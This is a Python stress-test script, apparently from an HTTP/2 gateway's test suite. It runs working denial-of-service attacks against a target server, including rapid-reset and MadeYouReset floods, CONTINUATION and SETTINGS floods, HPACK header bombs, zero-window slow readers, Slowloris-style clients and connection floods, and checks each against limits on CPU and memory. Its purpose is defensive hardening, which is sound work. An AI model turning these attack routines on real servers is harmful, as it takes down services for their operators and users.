#!/usr/bin/env python3
"""Abuse of HTTP/2: floods, resets, bombs, slow and silent clients, each with the figure it must stay below.

    h2_attacks.py 127.0.0.1:4000 --engine 18090 [--quick] [--only reset]
    h2_attacks.py --penstock .build/release/penstock [--quick] [--tls]

Columns: how the server ended it @ units sent until then (frames, or request and frame), CPU seconds of the
server, growth of its memory, requests that reached the backend, errors of a bystander on another connection.
Timers are 10 s by default (`--timer`); `--quick` starts the gateway with timers of 2 s, and skips what
would wait longer than 3 s.
"""

import argparse
import socket
import ssl
import sys
import time
import warnings

from attack_rig import BODY, Engine, Rig, body_for
from gateway import add_target_arguments, target
from h2wire import *  # noqa: F403 - the vocabulary of this file
from support import Report, exchange


def stream_id(number):
    return 1 + 2 * number


def simple(make, limit=4000, batch=16, prepare=None, wait=0.001, read=True, pairs=()):
    """An attack that sends `make(connection, number)` over and over on one connection."""
    def attack(rig):
        connection = rig.attacker(*pairs)
        # Answers must not use up the connection's window, or streams would pile up by the client's own fault.
        connection.send(frame(WINDOW_UPDATE, 0, 0, u32(1 << 30)))
        if prepare:
            prepare(connection)
        ending = connection.flood(lambda number: make(connection, number), limit, batch, wait, read)
        if ending == "open" and not read:
            ending, _ = connection.wait_for_end(2.0)
        note = f"rst {connection.resets}" if connection.resets else ""
        statuses = sorted(set(connection.statuses))
        return ending, connection.sent, " ".join(filter(None, [note, "/".join(statuses)]))
    return attack


# Resets by the client, and by the server


def reset(stream):
    return frame(RST_STREAM, 0, stream, u32(CANCEL))


def get(connection, stream, *more):
    return connection.headers(stream, connection.request_fields("GET", "/v1/models", *more))


def resets(rig):
    rig.run("reset/rapid-get", simple(lambda c, n: get(c, stream_id(n)) + reset(stream_id(n)), batch=8), units=400)
    rig.run("reset/rapid-post", simple(lambda c, n: c.post(stream_id(n)) + reset(stream_id(n)), batch=8), units=400)
    rig.run("reset/rapid-post-held", simple(lambda c, n: c.post(stream_id(n), body_for("hold")) + reset(stream_id(n)),
                                            batch=8), units=400)
    rig.run("reset/rapid-no-body", simple(
        lambda c, n: c.headers(stream_id(n), c.request_fields("POST", "/v1/chat/completions"), end_stream=False)
        + reset(stream_id(n)), batch=8), units=400)
    rig.run("reset/late", simple(lambda c, n: c.post(stream_id(n), body_for("hold"))
                                 + (reset(stream_id(n - 8)) if n >= 8 else b""), batch=4, wait=0.004), units=420,
            upstream=420, cpu=0.15)


def made_resets(rig):
    """MadeYouReset: the client makes the server reset its own streams while the backend works on."""
    def held(make, prepare=None):
        return simple(lambda c, n: c.post(stream_id(n), body_for("hold")) + make(stream_id(n)), limit=2000, batch=4,
                      prepare=prepare)
    rig.run("made-reset/window-update-0", held(lambda s: frame(WINDOW_UPDATE, 0, s, u32(0))), units=200)
    rig.run("made-reset/window-overflow", held(lambda s: frame(WINDOW_UPDATE, 0, s, u32(0x7FFFFFFF)) * 2), units=200)
    rig.run("made-reset/data-after-end", held(lambda s: frame(DATA, 0, s, b"x")), units=200)
    rig.run("made-reset/headers-after-end", held(lambda s: frame(HEADERS, END_HEADERS, s, b"\x88")), units=200)
    rig.run("made-reset/priority-length", held(lambda s: frame(PRIORITY, 0, s, bytes(4))), units=200)
    rig.run("made-reset/priority-self", held(lambda s: frame(PRIORITY, 0, s, priority_payload(s))), units=200)
    rig.run("made-reset/upper-case", simple(lambda c, n: get(c, stream_id(n), ("X-A", "b")), limit=2000, batch=4),
            units=200)
    rig.run("made-reset/content-length", simple(
        lambda c, n: c.post(stream_id(n), BODY, ("content-length", "1")), limit=2000, batch=4), units=200)
    rig.run("made-reset/over-concurrency", simple(
        lambda c, n: c.post(stream_id(n), body_for("hold")), limit=2000, batch=4), units=400, may_stay=True)


# Frames by the thousand


def open_stream(connection):
    connection.send(connection.headers(1, connection.request_fields(
        "POST", "/v1/chat/completions", ("content-type", "application/json")), end_stream=False))


def held_stream(connection):
    connection.send(connection.post(1, body_for("hold")))


def open_block(connection):
    connection.send(connection.headers(1, connection.request_fields(), end_stream=True, end_headers=False))


def floods(rig):
    literal = b"\x00\x01a\x01b"
    rig.run("continuation/empty", simple(lambda c, n: frame(CONTINUATION, 0, 1), batch=1, prepare=open_block), units=9)
    rig.run("continuation/small", simple(lambda c, n: frame(CONTINUATION, 0, 1, literal), batch=1, prepare=open_block),
            units=9)
    rig.run("continuation/16k", simple(lambda c, n: frame(CONTINUATION, 0, 1, literal * 3200), batch=1, wait=0.003,
                                       prepare=open_block), units=9)
    kinds = {
        "settings-empty": (lambda c, n: frame(SETTINGS, 0, 0), None),
        "settings-1": (lambda c, n: settings_frame((MAX_CONCURRENT_STREAMS, n)), None),
        "settings-100-entries": (lambda c, n: settings_frame(*[(MAX_CONCURRENT_STREAMS, n)] * 100), None),
        "settings-unknown": (lambda c, n: settings_frame(*[(0xF000 + k, n) for k in range(30)]), None),
        "settings-ack": (lambda c, n: frame(SETTINGS, ACK, 0), None),
        "ping": (lambda c, n: frame(PING, 0, 0, bytes(8)), None),
        "ping-ack": (lambda c, n: frame(PING, ACK, 0, bytes(8)), None),
        "empty-data": (lambda c, n: frame(DATA, 0, 1), open_stream),
        "padding-only-data": (lambda c, n: frame(DATA, PADDED, 1, b"\x03\0\0\0"), open_stream),
        "rst-closed": (lambda c, n: reset(1), open_stream),
        "priority-idle": (lambda c, n: frame(PRIORITY, 0, stream_id(n), priority_payload(0, n % 256)), None),
        "priority-cycle": (lambda c, n: frame(PRIORITY, 0, stream_id(n % 16), priority_payload(
            stream_id((n + 1) % 16), 1, True)), None),
        "window-update-0": (lambda c, n: frame(WINDOW_UPDATE, 0, 0, u32(1)), None),
        "window-update-1": (lambda c, n: frame(WINDOW_UPDATE, 0, 1, u32(1)), held_stream),
        "unknown": (lambda c, n: frame(0x20, 0, 0, b"x" * 8), None),
        "unknown-empty": (lambda c, n: frame(0xFB, 0xFF, stream_id(n % 100)), None),
        "priority-update": (lambda c, n: frame(0x10, 0, 0, u32(stream_id(n % 100)) + b"u=1"), None),
        "altsvc": (lambda c, n: frame(0x0A, 0, 0, b"\0\0x"), None),
        "goaway": (lambda c, n: frame(GOAWAY, 0, 0, u32(0) * 2), held_stream),
    }
    # Legal, and each frame is small work: these may go on, within the bound of CPU time.
    harmless = ("goaway", "padding-only-data")
    for name, (make, prepare) in kinds.items():
        rig.run(f"flood/{name}", simple(make, prepare=prepare), units=512, may_stay=name in harmless)
    for name in ("settings-empty", "ping", "empty-data", "unknown"):
        make, prepare = kinds[name]
        rig.run(f"flood-unread/{name}", simple(make, prepare=prepare, limit=20000, batch=500, read=False), cpu=0.1)
    rig.run("flood-unread/settings-toggling", simple(
        lambda c, n: settings_frame((HEADER_TABLE_SIZE, 0 if n % 2 else 4096)), limit=20000, batch=500, read=False),
        cpu=0.1)


def toggling(rig):
    def hold_ten(connection):
        connection.send(b"".join(connection.post(stream_id(number), body_for("big")) for number in range(10)))
        connection.watch(0.2)
    rig.run("toggle/table-size", simple(lambda c, n: settings_frame((HEADER_TABLE_SIZE, 0 if n % 2 else 4096))),
            units=640)
    rig.run("toggle/window", simple(lambda c, n: settings_frame((INITIAL_WINDOW_SIZE, 0 if n % 2 else 1000)),
                                    prepare=hold_ten, pairs=[(INITIAL_WINDOW_SIZE, 0)]), units=640, rss=8, cpu=0.2)
    rig.run("toggle/hpack-size-updates", simple(
        lambda c, n: c.headers(stream_id(n), b"\x20\x3f\xe1\x1f" + plain_request(c)), limit=640, batch=4),
        may_stay=True, cpu=0.25)
    # A client that asks for nothing but varies its fields: it pays by requests, and may go on.
    rig.run("toggle/churn", simple(
        lambda c, n: get(c, stream_id(n), *[(f"x-{n}-{k}", "v" * 40) for k in range(40)]), limit=640, batch=4),
        may_stay=True, cpu=0.25)


# Header bombs


def bomb_block(connection, name, value, references):
    """A block that adds one entry to the dynamic table, then refers to it `references` times."""
    literal = b"\x40" + bytes([len(name)]) + name + length_prefix(len(value)) + value
    return plain_request(connection) + literal + b"\xbe" * references


def plain_request(connection, *more):
    """A request block that leaves the dynamic table alone, which the encoder's own copy knows nothing of."""
    return literal_block([*connection.request_fields(), *more])


def bombs(rig):
    def empty_names(connection, number):
        return connection.headers(stream_id(number), plain_request(connection) + b"\x00\x00\x00" * 1000)
    rig.run("bomb/zero-length-names", simple(empty_names, limit=1000, batch=1), units=101)
    rig.run("bomb/empty-values", simple(
        lambda c, n: c.headers(stream_id(n), plain_request(c) + b"\x00\x01a\x00" * 3000), limit=300, batch=2,
        wait=0.002), may_stay=True, cpu=0.3)
    rig.run("bomb/hpack-references", simple(
        lambda c, n: c.headers(stream_id(n), bomb_block(c, b"x-bomb", b"b" * 3900, 12000)), limit=200, batch=1,
        wait=0.003), may_stay=True, cpu=0.5)
    rig.run("bomb/hpack-references-held", held_bomb(b"x-bomb", b"b" * 3900, 12000, 1, 64), may_stay=True, cpu=0.5)
    rig.run("bomb/cookie-crumbs-held", held_bomb(b"cookie", b"a", 4000, 8, 90), may_stay=True, cpu=1.0)
    rig.run("bomb/cookie-crumbs-empty-held", held_bomb(b"cookie", b"", 4000, 8, 90), may_stay=True, cpu=1.0)
    rig.run("bomb/one-64k-field", simple(
        lambda c, n: split_headers(c, stream_id(n), ("x-big", "b" * 60000)), limit=100, batch=1, wait=0.002),
        may_stay=True, cpu=0.3)


def split_headers(connection, stream, *more):
    block = plain_request(connection, *more)
    parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    out = connection.headers(stream, parts[0], end_headers=len(parts) == 1)
    for number, part in enumerate(parts[1:], 2):
        out += frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, stream, part)
    return out


def held_bomb(name, value, references, connections, streams):
    """Bombs on streams that a window of 0 keeps open, over several connections."""
    def attack(rig):
        endings, sent, statuses = [], 0, set()
        for _ in range(connections):
            connection = rig.attacker((INITIAL_WINDOW_SIZE, 0))
            endings.append(connection.flood(lambda number: connection.headers(
                stream_id(number), bomb_block(connection, name, value, references)), streams, 2, 0.002, linger=0.05))
            sent += connection.sent
            statuses |= set(connection.statuses)
        return "open" if "open" in endings else endings[0], sent, "/".join(sorted(statuses))
    return attack


# Readers that do not read


def unread(window, streams, grant=None, seconds=1.5):
    """`streams` answers of 256 MiB with a stream window of `window`, of which little or nothing is read."""
    def attack(rig):
        connection = rig.attacker((INITIAL_WINDOW_SIZE, window))
        if window > 65535:
            connection.send(frame(WINDOW_UPDATE, 0, 0, u32(window)))
        connection.send(b"".join(connection.post(stream_id(number), body_for("big")) for number in range(streams)))
        until, sent, ending = time.monotonic() + seconds, 0, "open"
        while time.monotonic() < until:
            if not grant:
                time.sleep(0.05)
                continue
            if not connection.send(grant * 10):
                ending = "closed"
                break
            sent += 10
            try:
                connection.watch(0.002)
            except Exception as cut:
                ending = str(cut)
                break
        return ending, sent, f"{streams} streams, in flight {rig.engine.inflight}"
    return attack


def unread_http1(rig):
    """Four HTTP/1.1 connections that ask for 256 MiB and never read."""
    body = body_for("big")
    head = (f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()
    sockets = [socket.create_connection((rig.goal.host, rig.goal.port), 3) for _ in range(4)]
    for sock in sockets:
        sock.sendall(head + body)
    time.sleep(1.5)
    inflight = rig.engine.inflight
    for sock in sockets:
        sock.close()
    return "open", 4, f"in flight {inflight}"


def readers(rig):
    # Per stalled stream 64 KiB at most, and the kernel's socket buffers are not the process's memory.
    rig.run("unread/zero-window-100", unread(0, 100), may_stay=True, rss=6.4, cpu=0.3)
    rig.run("unread/socket-4x256MiB", unread(0x3FFFFFFF, 4), may_stay=True, rss=16, cpu=0.5)
    if not rig.options.tls:
        rig.run("unread/http1-4x256MiB", unread_http1, may_stay=True, rss=16, cpu=0.5)
    rig.run("unread/window-1", unread(1, 50), may_stay=True, rss=6.4, cpu=0.3)
    rig.run("unread/dribble", unread(0, 1, frame(WINDOW_UPDATE, 0, 1, u32(1))), may_stay=True, rss=3, cpu=0.3)
    rig.run("unread/streams-never-ended", simple(
        lambda c, n: c.headers(stream_id(n), c.request_fields("POST", "/v1/chat/completions"), end_stream=False),
        limit=1000), may_stay=True, units=400)


# Slow and silent clients


def timed(start, limit):
    def attack(rig):
        connection = start(rig)
        ending, after = connection.wait_for_end(limit)
        return ending, 1, f"after {after:.1f} s"
    return attack


def raw(data):
    def start(rig):
        connection = rig.attacker_raw()
        connection.send(data)
        return connection
    return start


def slow(rig, timer):
    low, high = timer - 1, timer + 1.5
    bounds = dict(seconds=(max(0, low), high))

    def half_block(rig):
        connection = rig.attacker()
        open_block(connection)
        return connection
    rig.run("slow/silent-tcp", timed(raw(b""), high + 1), **bounds)
    rig.run("slow/half-preface", timed(raw(PREFACE[:12]), high + 1), **bounds)
    rig.run("slow/preface-only", timed(raw(PREFACE), high + 1), **bounds)
    rig.run("slow/half-frame-header", timed(raw(PREFACE + settings_frame() + b"\0\0"), high + 1), **bounds)
    rig.run("slow/no-settings-ack", timed(raw(PREFACE + settings_frame()), high + 1), **bounds)
    rig.run("slow/half-header-block", timed(half_block, high + 1), **bounds)
    if not rig.options.tls:
        rig.run("slow/http1-half-head", timed(raw(b"POST / HTTP/1.1\r\nHost: x\r\n"), high + 1), **bounds)
        rig.run("slow/http1-dribble", http1_dribble(high), **bounds)
    if rig.goal.tls_port:
        rig.run("tls/old-version", old_tls)
        rig.run("slow/tls-silent", tls_silent(high + 1), **bounds)


def http1_dribble(limit):
    """A field octet every 0.2 s: the timer runs from the head's first octet, not from its last."""
    def attack(rig):
        started = time.monotonic()
        with socket.create_connection((rig.goal.host, rig.goal.port), 2) as sock:
            sock.sendall(b"POST / HTTP/1.1\r\nX: ")
            while time.monotonic() - started < limit + 1:
                sock.settimeout(0.2)
                try:
                    if not sock.recv(4096):
                        return "closed", 1, f"after {time.monotonic() - started:.1f} s"
                except TimeoutError:
                    pass
                except OSError:
                    return "closed", 1, f"after {time.monotonic() - started:.1f} s"
                try:
                    sock.sendall(b"a")
                except OSError:
                    return "closed", 1, f"after {time.monotonic() - started:.1f} s"
        return "open", 1, ""
    return attack


def old_tls(rig):
    """A client that offers nothing newer than TLS 1.1."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_ciphers("ALL:@SECLEVEL=0")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        context.minimum_version, context.maximum_version = ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1
    try:
        with socket.create_connection((rig.goal.host, rig.goal.tls_port), 2) as sock:
            with context.wrap_socket(sock) as wrapped:
                return "open", 1, wrapped.version()
    except OSError as error:
        return "refused", 1, str(error)[:60]


def tls_silent(limit):
    def attack(rig):
        started = time.monotonic()
        with socket.create_connection((rig.goal.host, rig.goal.tls_port), 2) as sock:
            sock.sendall(b"\x16\x03\x01")
            sock.settimeout(limit)
            try:
                sock.recv(4096)
            except TimeoutError:
                return "open", 1, ""
            except OSError:
                pass
        return "closed", 1, f"after {time.monotonic() - started:.1f} s"
    return attack


def bodies(rig, body_timer):
    def endless(rig):
        connection = rig.attacker()
        open_stream(connection)
        octets, status = 0, None
        for _ in range(4000):
            room = connection.settings.get(INITIAL_WINDOW_SIZE, 65535)
            connection.send(frame(DATA, 0, 1, b" " * min(16384, room)))
            octets += min(16384, room)
            try:
                connection.watch(0.001)
            except Exception as cut:
                return str(cut), octets >> 20, f"MiB sent, {connection.statuses}"
            if connection.statuses or connection.resets:
                status = connection.statuses
                break
        return ("413" if status == ["413"] else "open"), octets >> 20, f"MiB sent, {connection.statuses}"
    rig.run("body/endless-h2", endless, units=40, rss=40, cpu=1.0)

    def http1_body(rig, pieces):
        with socket.create_connection((rig.goal.host, rig.goal.port), 3) as sock:
            head = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    b"Transfer-Encoding: chunked\r\n\r\n")
            piece = b"10000\r\n" + b" " * 65536 + b"\r\n"
            responses, _, closed = exchange(sock, [head] + [piece] * pieces, 1, 3.0)
            statuses = [response.status for response in responses]
        return ("413" if statuses == [413] else "closed" if closed else "open"), pieces // 16, f"MiB sent, {statuses}"

    def just_above_http1(rig):
        ending, sent, note = http1_body(rig, 144)
        return ("error" if ending == "closed" else ending), sent, note
    if not rig.options.tls:
        # Who never reads while it sends may lose the 413 to the reset; who stops in time gets it.
        rig.run("body/endless-http1", lambda rig: http1_body(rig, 1000), rss=40, cpu=1.0)
        if rig.goal.gateway:
            rig.run("body/9MiB-http1", just_above_http1, rss=40, cpu=1.0)

    def announced(rig):
        connection = rig.attacker()
        connection.send(connection.headers(1, connection.request_fields(
            "POST", "/v1/chat/completions", ("content-type", "application/json"), ("content-length", "9999999999")),
            end_stream=False))
        status, _, _, event = connection.response(1, 3.0)
        return status or str(event), 1, ""
    rig.run("body/announced-10GB", announced)

    def stopped(rig):
        connection = rig.attacker()
        open_stream(connection)
        connection.send(frame(DATA, 0, 1, b'{"model":'))
        status, _, _, event = connection.response(1, body_timer + 2)
        return ("open" if event.what == TIMEOUT else status or str(event)), 1, ""
    rig.run("body/stopped", stopped, seconds=(max(0, body_timer - 1), body_timer + 1.5))


def connection_flood(rig):
    def idle(rig):
        slowest = 0.0
        for number in range(1000):
            rig.attacker()
            if number % 100 == 0:
                started = time.monotonic()
                with socket.create_connection((rig.goal.host, rig.goal.port), 3) as sock:
                    if not rig.options.tls:
                        exchange(sock, [b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"], 1, 3.0, 0.0)
                slowest = max(slowest, time.monotonic() - started)
        time.sleep(0.2)
        return "open", 1000, f"/health at most {slowest * 1000:.0f} ms"
    rig.run("connections/1000-idle", idle, may_stay=True, rss=20, cpu=1.5)

    def churn(rig):
        for _ in range(1000):
            socket.create_connection((rig.goal.host, rig.goal.port), 3).close()
        return "closed", 1000, ""
    rig.run("connections/1000-opened-and-closed", churn, cpu=0.5)


def run_suite(options, goal, engine, report):
    rig = Rig(options, goal, engine, report)

    def attacker_raw():
        from attack_rig import Attacker
        connection = Attacker(goal.host, goal.port, options.tls, 3.0)
        rig.open.append(connection)
        return connection
    rig.attacker_raw = attacker_raw
    rig.calibrate()
    for warm_up in range(3):
        with H2Connection(goal.host, goal.port, options.tls).handshake() as connection:
            connection.send(b"".join(get(connection, stream_id(number)) for number in range(50)))
            connection.response(stream_id(49))
    for part in (resets, made_resets, floods, toggling, bombs, readers):
        part(rig)
    bodies(rig, options.body_timer) if options.body_timer <= 3 or not options.quick else None
    connection_flood(rig)
    if options.timer <= 3 or not options.quick:
        slow(rig, options.timer)
    rig.bystander.stop()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    add_target_arguments(parser)
    parser.add_argument("--engine", type=int, default=0, help="port of the backend that this script runs")
    parser.add_argument("--path", default="/v1/models", help="what the bystander asks for")
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--timer", type=float, help="seconds of the server's header timer")
    parser.add_argument("--body-timer", type=float, help="seconds of the server's idle timer of a body")
    parser.add_argument("--only", help="run the attacks whose name contains this")
    options = parser.parse_args()
    short = options.quick and options.penstock
    options.timer = options.timer or (2.0 if short else 10.0)
    options.body_timer = options.body_timer or (2.0 if short else 15.0)
    report, engine = Report("h2_attacks", options.quiet), Engine(options.engine)
    with target(options, [engine.port], bool(short)) as goal:
        run_suite(options, goal, engine, report)
    return report.finish()


if __name__ == "__main__":
    sys.exit(main())
